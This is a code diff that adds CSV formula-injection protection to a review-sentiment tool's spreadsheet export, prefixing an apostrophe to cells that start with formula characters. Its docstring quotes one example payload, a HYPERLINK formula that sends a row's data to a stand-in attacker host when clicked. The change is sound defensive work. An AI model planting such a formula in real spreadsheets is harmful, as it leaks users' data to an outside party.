@@ -2,7 +2,8 @@
 
 `labelled_csv` is what `xiaoer analyze` writes and what the bot sends back for an upload: the
 input columns plus label, p_negative, p_neutral, p_positive and aspects, one row per input row,
-UTF-8 with a BOM so that Excel opens it. `chart_png` draws the label counts and the most
+UTF-8 with a BOM so that Excel opens it; every cell goes through `safe_cell`, so that
+customer text such as `=HYPERLINK(...)` is shown, never run. `chart_png` draws the label counts and the most
 complained-about aspects with matplotlib (Agg, no display); it blocks, so the bot calls it on
 a thread. Chinese labels need a CJK font (Noto Sans CJK, WenQuanYi, Source Han, SimHei ...);
 without one the chart is drawn with English labels.
@@ -12,15 +13,18 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import threading
 from collections.abc import Sequence
 from functools import cache
 
 from bot.i18n import ASPECTS_EN
-from bot.parsing import Table
+from bot.tables import Table
 from nlp.digest import ReviewDigest
 from nlp.types import ASPECTS, LABELS, Language, Sentiment
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
 EXTRA_COLUMNS = ["label", *(f"p_{label}" for label in LABELS), "aspects"]
 CJK_FONT_HINTS = (
     "CJK",
@@ -33,6 +37,8 @@ CJK_FONT_HINTS = (
     "Droid Sans Fallback",
     "AR PL",
 )
+
+
 _draw_lock = threading.Lock()  # matplotlib's font cache is shared; draw one chart at a time
 _LABEL_NAMES = {
     "zh": {"negative": "差评", "neutral": "中评", "positive": "好评"},
@@ -45,18 +51,35 @@ _TITLES = {
 _COLOURS = {"negative": "#d9534f", "neutral": "#f0ad4e", "positive": "#5cb85c"}
 
 
+def safe_cell(value: str) -> str:
+    """A cell as text that spreadsheets show and never run (OWASP "CSV injection").
+
+    Excel, LibreOffice and Sheets take a cell that starts with = + - @ (or a tab or CR before
+    one) as a formula: `=HYPERLINK("http://evil.example/?"&B1,"详情")` in a review would leak
+    the row when clicked. Such a cell gets a leading apostrophe; a plain number ("-5", "+3.5")
+    cannot run and is kept as it is. Every table we write goes through here.
+    """
+    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def safe_row(cells: Sequence[str]) -> list[str]:
+    return [safe_cell(c) for c in cells]
+
+
 def labelled_csv(table: Table, results: Sequence[Sentiment | None]) -> bytes:
     """The table with the classifier's columns added; empty reviews keep empty labels."""
     columns = [c if c not in EXTRA_COLUMNS else f"input_{c}" for c in table.columns]
     out = io.StringIO(newline="")
     writer = csv.writer(out)
-    writer.writerow(columns + EXTRA_COLUMNS)
+    writer.writerow(safe_row(columns + EXTRA_COLUMNS))
     for row, s in zip(table.rows, results, strict=True):
         if s is None:
-            writer.writerow(row + [""] * len(EXTRA_COLUMNS))
+            writer.writerow(safe_row(row + [""] * len(EXTRA_COLUMNS)))
         else:
             probs = [f"{s.probs[label]:.4f}" for label in LABELS]
-            writer.writerow([*row, s.label, *probs, ";".join(s.aspects)])
+            writer.writerow(safe_row([*row, s.label, *probs, ";".join(s.aspects)]))
     return out.getvalue().encode("utf-8-sig")  # BOM: Excel opens it as UTF-8
 
 
